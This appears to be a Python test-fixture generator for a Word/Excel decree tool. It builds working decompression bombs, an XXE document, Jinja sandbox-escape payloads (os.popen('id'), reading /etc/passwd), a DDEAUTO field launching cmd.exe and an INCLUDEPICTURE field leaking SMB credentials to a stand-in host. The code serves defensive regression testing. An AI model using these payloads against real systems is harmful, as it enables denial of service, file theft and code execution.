"""The hostile case files too big to keep in the repository, made once per test session.

The zip bombs are real: each inflates to what its name says, with a correct CRC. They are made
without compressing a gigabyte: a block compressed once, ending in a full flush (byte-aligned,
no reference back into earlier data), is repeated, which is still one valid deflate stream.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

from docx import Document

import kpu_docs
from kpu_docs import plaintext
from kpu_docs.word.package import Member, zip_bytes
from kpu_docs.word.templates import template_dir
from tests.hostile import build_register

FILES = Path(__file__).parent / "files"
MB = 1024 * 1024
_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Target="word/document.xml" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
_DOCUMENT_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
)


def repeated(name: str, head: bytes, unit: bytes, times: int, tail: bytes) -> Member:
    """A deflated member holding head + unit * times + tail, compressed in the time of one unit."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.compress(tail) + packer.flush()
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(tail, crc)
    return Member(name.encode(), crc, len(head) + len(unit) * times + len(tail), start + block * times + end, 8)


def _docx(*members: Member) -> bytes:
    return zip_bytes([Member.of("[Content_Types].xml", _CONTENT_TYPES), Member.of("_rels/.rels", _RELS), *members])


def docx_bomb() -> bytes:
    """A 4 MB .docx whose document.xml inflates to 1.2 GB of paragraphs."""
    paragraph = b"<w:p><w:r><w:t>bahwa untuk melaksanakan ketentuan Pasal 7 perlu menetapkan keputusan</w:t></w:r></w:p>"
    return _docx(repeated("word/document.xml", _DOCUMENT_HEAD, paragraph * 10_000, 1200, b"</w:body></w:document>"))


def long_docx() -> bytes:
    """A .docx of 100,000 real paragraphs (about 3,000 pages), compressed as Word compresses:
    not a bomb, but no decree either (it took 253 s and 761 MB to import)."""
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    body = b"".join(b"<w:p><w:r><w:t>bahwa untuk melaksanakan ketentuan Pasal %d perlu menetapkan keputusan</w:t></w:r></w:p>"
                    % i for i in range(100_000))
    data = _DOCUMENT_HEAD + body + b"</w:body></w:document>"
    deflated = packer.compress(data) + packer.flush()
    return _docx(Member(b"word/document.xml", zlib.crc32(data), len(data), deflated, 8))


def table_rows(rows: int) -> str:
    """The base decree with a Lampiran table of `rows` rows (5,000 took 72 to 93 s to render)."""
    lines = "".join(f'            - ["Anggota {i}", "Desa {i % 40}", "Anggota"]\n' for i in range(1, rows + 1))
    return (FILES / "dasar.yaml").read_text(encoding="utf-8") + (
        "lampiran:\n  - judul: Susunan Anggota\n    isi:\n      - tabel:\n"
        '          kolom: ["NO", NAMA, DESA, JABATAN]\n          nomor_urut: true\n          baris:\n' + lines)


def one_text_node_bomb() -> bytes:
    """A 1.2 MB .docx whose document.xml is one text node of 1.2 GB."""
    return _docx(repeated("word/document.xml", _DOCUMENT_HEAD + b"<w:p><w:r><w:t>", b"A" * MB, 1200,
                          b"</w:t></w:r></w:p></w:body></w:document>"))


def many_members() -> bytes:
    """A .docx of 5,000 empty parts."""
    return _docx(*(Member.of(f"word/media/gambar{i}.png", b"") for i in range(5000)))


def xxe_docx() -> bytes:
    """A decree rendered by kpu-docs whose document.xml declares an external entity naming a
    local file and prints it in the decree's title: an importer that resolved it would copy
    the file into the YAML it writes."""
    data = kpu_docs.render_bytes(kpu_docs.load(FILES / "dasar.yaml"))
    secret = (FILES / "rahasia.txt").resolve().as_uri().encode()

    def change(name: str, content: bytes) -> bytes:
        if name != "word/document.xml":
            return content
        head, rest = content.split(b"?>", 1)
        doctype = b'<!DOCTYPE w:document [<!ENTITY rahasia SYSTEM "' + secret + b'">]>'
        return head + b"?>" + doctype + rest.replace(b"Pembentukan Tim Kerja", b"Pembentukan Tim Kerja &rahasia;", 1)

    return _rewrite(data, change)


def bad_xml_docx() -> bytes:
    """A decree rendered by kpu-docs whose document.xml is cut off in the middle of a paragraph:
    libxml2's recovery mode would import the text before the cut as if it were the decree."""
    data = kpu_docs.render_bytes(kpu_docs.load(FILES / "dasar.yaml"))
    return _rewrite(data, lambda name, content: content[: len(content) // 2] if name == "word/document.xml" else content)


def _rewrite(data: bytes, change) -> bytes:
    """A zip with each member's content passed through change(name, content)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            zout.writestr(item.filename, change(item.filename, zin.read(item)))
    return out.getvalue()


def template(folder: Path, change) -> Path:
    """A --templat folder whose keputusan.docx is the shipped one with change(name, content) applied."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "keputusan.docx").write_bytes(_rewrite((template_dir() / "keputusan.docx").read_bytes(), change))
    return folder


def _only(part: str, edit):
    return lambda name, content: edit(content) if name == part else content


def external_template(folder: Path) -> Path:
    """A template whose logo is a picture on a web server, fetched when Word opens the decree."""
    remote = (b'<Relationship Id="rIdLuar" TargetMode="External" Target="http://contoh.invalid/logo.png" '
              b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/></Relationships>')
    return template(folder, _only("word/_rels/document.xml.rels", lambda c: c.replace(b"</Relationships>", remote)))


def broken_tag_template(folder: Path) -> Path:
    """A template with an unclosed {{ tag (before, the decree lost 32 lines without a word)."""
    return template(folder, _only("word/document.xml", lambda c: c.replace(b"{{ tempat }}", b"{{ tempat ", 1)))


def code_template(folder: Path, expression: bytes) -> Path:
    """A template that tries to run Python where {{ jabatan_penetap }} stood (remote code
    execution for whoever renders with it, before templates ran in Jinja's sandbox)."""
    return template(folder, _only("word/document.xml", lambda c: c.replace(b"{{ jabatan_penetap }}", expression, 1)))


def bad_xml_template(folder: Path) -> Path:
    """A template whose header is not well-formed XML (libxml2's recovery would read it in part)."""
    return template(folder, _only("word/header1.xml", lambda c: c.replace(b"</w:hdr>", b"<w:p></w:hdr>")))


def huge_member_template(folder: Path) -> Path:
    """A template whose document.xml inflates to 1.5 GB."""
    folder.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(template_dir() / "keputusan.docx") as shipped:
        members = [Member.of(i.filename, shipped.read(i)) for i in shipped.infolist() if i.filename != "word/document.xml"]
    members.append(repeated("word/document.xml", _DOCUMENT_HEAD, b"<w:p/>" * 100_000, 2600, b"</w:body></w:document>"))
    (folder / "keputusan.docx").write_bytes(zip_bytes(members))
    return folder


def big_text(size: int, line: bytes) -> bytes:
    """`size` bytes and a little more of the same line repeated."""
    return line * (size // len(line) + 1)


# --- spreadsheets for batch (issue 16: defects 4, 8, 9) --------------------------------------
_XLSX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_XLSX_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Target="xl/workbook.xml" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
_XLSX_BOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    b'<sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_XLSX_BOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>'
)
_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>tentang</t></is></c></row>'
)
_SHEET_TAIL = b"</sheetData></worksheet>"


def xlsx(sheet: Member, *more: Member) -> bytes:
    """A workbook of one sheet named Data (column `tentang`), as Excel lays out its parts."""
    return zip_bytes([Member.of("[Content_Types].xml", _XLSX_TYPES), Member.of("_rels/.rels", _XLSX_RELS),
                      Member.of("xl/workbook.xml", _XLSX_BOOK), Member.of("xl/_rels/workbook.xml.rels", _XLSX_BOOK_RELS),
                      sheet, *more])


def xlsx_strings_bomb() -> bytes:
    """A 2 MB workbook whose shared strings inflate to 1.6 GB (2.1 GB of memory and rising before)."""
    unit = b"<si><t>Pembentukan Panitia Pemungutan Suara Desa Ampenan Utara</t></si>" * 15_000
    strings = repeated("xl/sharedStrings.xml", b'<?xml version="1.0" encoding="UTF-8"?>'
                       b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">', unit, 1600, b"</sst>")
    sheet = Member.of("xl/worksheets/sheet1.xml", _SHEET_HEAD + b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>' + _SHEET_TAIL)
    return xlsx(sheet, strings)


def xlsx_one_cell_bomb() -> bytes:
    """A 1.5 MB workbook with one cell of 1.5 GB (3 GB, then a MemoryError, before)."""
    return xlsx(repeated("xl/worksheets/sheet1.xml", _SHEET_HEAD + b'<row r="2"><c r="A2" t="inlineStr"><is><t>',
                         b"A" * MB, 1500, b"</t></is></c></row>" + _SHEET_TAIL))


def xlsx_many_rows() -> bytes:
    """A workbook of 20 million rows (no output in 60 s before)."""
    row = b'<row><c t="inlineStr"><is><t>Pembentukan Tim Kerja</t></is></c></row>'
    return xlsx(repeated("xl/worksheets/sheet1.xml", _SHEET_HEAD, row * 100_000, 200, _SHEET_TAIL))


def xlsx_long_cell() -> bytes:
    """A workbook with a 40,000-character cell: beyond Excel's 32,767 (it cannot be typed there)."""
    return xlsx(Member.of("xl/worksheets/sheet1.xml", _SHEET_HEAD + b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
                          + b"A" * 40_000 + b"</t></is></c></row>" + _SHEET_TAIL))


def xlsx_by_openpyxl(path: Path, edit) -> Path:
    """A workbook as openpyxl writes it (columns tentang, penutup.tanggal, berkas; three rows),
    passed through edit(sheet) first."""
    import datetime

    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["tentang", "penutup.tanggal", "berkas"])
    for i in range(1, 4):
        sheet.append([f"Pembentukan Tim Kerja {i}", datetime.date(2025, 9, i), f"sk-{i}"])
    edit(sheet)
    book.save(path)
    return path


def _merge(sheet) -> None:
    sheet.merge_cells("B2:B4")  # one date typed once for three rows


def _formula(sheet) -> None:
    sheet["A3"] = '=CONCAT("Pembentukan Tim ", "Kerja 2")'  # openpyxl stores no value for it


def member_table(folder: Path, rows: int, decrees: int = 50) -> None:
    """batch-desa.csv (`decrees` PPS decrees) and batch-anggota-ROWS.csv (`rows` members shared
    among them, and one more whose desa is in no decree), with the batch tests' base, pps.yaml."""
    (folder / "pps.yaml").write_text((Path(__file__).parents[1] / "batch" / "data" / "pps.yaml").read_text("utf-8"), "utf-8")
    with open(folder / "batch-desa.csv", "w", encoding="utf-8") as out:
        out.write("nomor,tentang,penutup.tanggal,desa\n")
        out.writelines(f"{i + 1},Pembentukan PPS Desa {i},2025-01-06,Desa {i}\n" for i in range(decrees))
    with open(folder / f"batch-anggota-{rows}.csv", "w", encoding="utf-8") as out:
        out.write("desa,nama,jabatan\n")
        out.writelines(f"Desa {i % decrees},Anggota Nomor {i},Anggota\n" for i in range(rows))
        out.write("Desa Tak Ada,Anggota Terakhir,Anggota\n")


def make_all(folder: Path) -> Path:
    """Every generated case in `folder` (named as cases.yaml refers to them)."""
    (folder / "docx-bom.docx").write_bytes(docx_bomb())
    (folder / "docx-satu-teks.docx").write_bytes(one_text_node_bomb())
    (folder / "docx-panjang.docx").write_bytes(long_docx())
    (folder / "tabel-5000-baris.yaml").write_text(table_rows(5000), encoding="utf-8")
    (folder / "docx-banyak-bagian.docx").write_bytes(many_members())
    (folder / "docx-xxe.docx").write_bytes(xxe_docx())
    (folder / "docx-xml-rusak.docx").write_bytes(bad_xml_docx())
    (folder / "data-besar.yaml").write_bytes(b"menimbang:\n" + big_text(6 * MB, b"  - bahwa perlu dibentuk tim kerja\n"))
    (folder / "teks-besar.txt").write_bytes(big_text(6 * MB, b"bahwa perlu dibentuk tim kerja;\n"))
    png = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\x0dIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02\x00\x00\x00"
    (folder / "logo-besar.png").write_bytes(png + bytes(6 * MB))
    (folder / "logo-besar.yaml").write_text(
        (FILES / "dasar.yaml").read_text(encoding="utf-8").replace("tentang:", "logo: logo-besar.png\ntentang:", 1),
        encoding="utf-8",
    )
    (folder / "berkas-biasa.txt").write_text("sebuah berkas, bukan folder\n", encoding="utf-8")
    external_template(folder / "templat-eksternal")
    broken_tag_template(folder / "templat-tag-rusak")
    code_template(folder / "templat-kode-cycler", b"{{ cycler.__init__.__globals__.os.popen('id').read() }}")
    code_template(folder / "templat-kode-lipsum", b"{{ lipsum.__globals__['__builtins__']['open']('/etc/passwd').read() }}")
    code_template(folder / "templat-kode-namespace", b"{{ namespace.__init__.__globals__ }}")
    bad_xml_template(folder / "templat-xml-rusak")
    huge_member_template(folder / "templat-bagian-besar")
    make_guard(folder)
    make_scans(folder)
    build_register.make_registers(folder / "register")
    (folder / "xlsx-bom-teks.xlsx").write_bytes(xlsx_strings_bomb())
    (folder / "xlsx-satu-sel.xlsx").write_bytes(xlsx_one_cell_bomb())
    (folder / "xlsx-20-juta-baris.xlsx").write_bytes(xlsx_many_rows())
    (folder / "xlsx-sel-panjang.xlsx").write_bytes(xlsx_long_cell())
    xlsx_by_openpyxl(folder / "xlsx-sel-gabungan.xlsx", _merge)
    xlsx_by_openpyxl(folder / "xlsx-rumus.xlsx", _formula)
    member_table(folder, 200_000)
    return folder


# --- issue 16: outputs onto inputs, template fields and exhaustion, PDF bomb, text, names -------

def make_guard(folder: Path) -> None:
    """The generated cases of the section "issue 16: guard" of cases.yaml."""
    (folder / "kembar.docx").write_bytes(kpu_docs.render_bytes(kpu_docs.load(FILES / "dasar.yaml")))
    (folder / "kembar.yaml").write_bytes((FILES / "dasar.yaml").read_bytes())
    template(folder / "templat-sama", lambda name, content: content)
    field_template(folder / "templat-includepicture", "word/document.xml", b"<w:body>", _INCLUDEPICTURE)
    field_template(folder / "templat-includetext", "word/header1.xml", b"</w:hdr>", _INCLUDETEXT)
    field_template(folder / "templat-ddeauto", "word/footer1.xml", b"</w:ftr>", _DDEAUTO)
    for name, expression in _EXHAUSTING.items():
        code_template(folder / f"templat-{name}", expression)
    (folder / "pdf-bom.pdf").write_bytes(pdf_bomb())
    shown = b"BT /F1 1 Tf 10 10 Td " + b"(AAAAAAAAAA) Tj " * 30_000 + b" ET"  # 300,000 characters on one page
    (folder / "pdf-huruf.pdf").write_bytes(pdf(zlib.compress(shown, 9)))
    capitals = b"KEPUTUSAN KOMISI PEMILIHAN UMUM "
    (folder / "teks-satu-baris.txt").write_bytes(capitals * ((5 * MB - 100) // len(capitals)))
    (folder / "teks-nul.txt").write_bytes(b"KEPUTUSAN KOMISI PEMILIHAN UMUM\nNOMOR 5\x00 TAHUN 2025\n")
    (folder / "teks-acak.txt").write_bytes(random.Random(16).randbytes(200 * 1024))
    decree = plaintext.text(Document(io.BytesIO(kpu_docs.render_bytes(kpu_docs.load(FILES / "dasar.yaml")))))
    (folder / "teks-utf16.txt").write_bytes(decree.replace("\n", "\r\n").encode("utf-16"))  # Notepad's "Unicode"
    (folder / "teks-utf8-bom.txt").write_bytes(decree.encode("utf-8-sig"))
    (folder / "docx-altchunk.docx").write_bytes(alt_chunk_docx())
    (folder / "nama-240.csv").write_text("berkas,nomor\n" + "a" * 240 + ",1\n", encoding="utf-8")
    (folder / "nama-perangkat.csv").write_text("berkas,nomor\nCOM1.docx,1\n", encoding="utf-8")


def alt_chunk_docx() -> bytes:
    """A decree rendered by kpu-docs with a Diktum pasted in as HTML (w:altChunk), which Word
    shows as part of the text (the importer dropped it without a word)."""
    data = kpu_docs.render_bytes(kpu_docs.load(FILES / "dasar.yaml"))
    html = b"<html><body><p>KEEMPAT : Tim Kerja melaporkan hasil kerjanya setiap bulan.</p></body></html>"
    chunk = b'<w:altChunk r:id="rIdSisipan"/>'
    rel = (b'<Relationship Id="rIdSisipan" Target="sisipan.html" '
           b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"/></Relationships>')

    def change(name: str, content: bytes) -> bytes:
        if name == "word/document.xml":
            final = content.rindex(b"<w:sectPr")  # the body's own, after its last paragraph
            return content[:final] + chunk + content[final:]
        if name == "word/_rels/document.xml.rels":
            return content.replace(b"</Relationships>", rel)
        if name == "[Content_Types].xml":
            return content.replace(b"</Types>", b'<Default Extension="html" ContentType="text/html"/></Types>')
        return content

    return _with_member(_rewrite(data, change), "word/sisipan.html", html)


def _with_member(data: bytes, name: str, content: bytes) -> bytes:
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr(name, content)
    return buffer.getvalue()


def pdf(content: bytes, filters: bytes = b"/Filter /FlateDecode") -> bytes:
    """A one-page PDF whose page content is the stream `content` (already encoded), with a
    correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d %s >>\nstream\n" % (len(content), filters) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_bomb() -> bytes:
    """A 1 MB PDF whose one content stream inflates to 930 MB of text operators (took 4 GB and
    the interpreter aborted): a zlib stream made of one compressed block repeated."""
    unit = b"BT /F1 12 Tf 72 720 Td (bahwa perlu menetapkan keputusan) Tj ET\n" * 16384  # 1 MB
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)  # the zlib header
    block = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.flush()[:-4]  # the final empty block, without the checksum of one unit
    checksum = 1
    for _ in range(930):
        checksum = zlib.adler32(unit, checksum)
    return pdf(head + block * 930 + end + checksum.to_bytes(4, "big"))


_INCLUDEPICTURE = (b'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE  &quot;\\\\contoh.invalid\\share\\logo.png&quot; '
                   b'\\d "><w:r><w:t>logo</w:t></w:r></w:fldSimple></w:p>')
"""A picture Word fetches over SMB as the decree opens, handing the server the reader's credentials."""
_INCLUDETEXT = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                b'<w:r><w:instrText xml:space="preserve"> Include</w:instrText></w:r>'
                b'<w:r><w:instrText xml:space="preserve">text "http://contoh.invalid/isi.docx" </w:instrText></w:r>'
                b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>isi</w:t></w:r>'
                b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
"""Text fetched from a web address, its field name split across runs and in mixed case."""
_DDEAUTO = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> IF 1 = 1 "'
            b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            b'<w:r><w:instrText xml:space="preserve"> ddeauto c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r>'
            b'<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText xml:space="preserve">" </w:instrText></w:r>'
            b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
"""A program run as the decree opens, nested inside an IF field."""
_EXHAUSTING = {
    "teks-raksasa": b"{{ 'A' * 10**9 }}",
    "center-raksasa": b"{{ jabatan_penetap.center(2000000000) }}",
    "replace-bom": b"{% set a = 'a' * 1000 %}{% set b = a.replace('a', a) %}{{ b.replace('a', b) }}",
    "daftar-raksasa": b"{{ ([0] * 10**8)|length }}",
    "range-bersarang": b"{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "rekursi": b"{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "overflow": b"{{ 10**400 / 1.0 }}",
}
"""Templates that would take gigabytes or hours, or end in a Python exception (tracebacks before)."""


def field_template(folder: Path, part: str, before: bytes, field: bytes) -> Path:
    """A template with `field` inserted in `part` (after <w:body>, or before the part's last tag)."""
    def insert(content: bytes) -> bytes:
        return content.replace(before, before + field, 1) if before == b"<w:body>" else content.replace(before, field + before, 1)

    return template(folder, _only(part, insert))


# --- issue 19: scans to read by OCR ------------------------------------------------------------

def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def make_scans(folder: Path) -> None:
    """The generated cases of the section "issue 19: scans" of cases.yaml."""
    from PIL import Image

    # a 300-byte PNG whose header claims 60,000 x 60,000 pixels (10.8 GB once decoded)
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    (folder / "gambar-raksasa.png").write_bytes(
        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", zlib.compress(b"\0" * 200))
        + _png_chunk(b"IEND", b""))
    frames = [Image.new("L", (8, 8), 255) for _ in range(600)]
    frames[0].save(folder / "tiff-600-halaman.tif", save_all=True, append_images=frames[1:])
    (folder / "bukan-gambar.png").write_text("ini bukan gambar\n", encoding="utf-8")
    Image.new("L", (1240, 1754), 255).save(folder / "halaman-kosong.png", dpi=(150, 150))
    # one page of 100 x 100 inches (2.5 m): 900 million pixels at 300 ppi
    Image.new("L", (100, 100), 255).save(folder / "pdf-halaman-raksasa.pdf", "PDF", resolution=1)
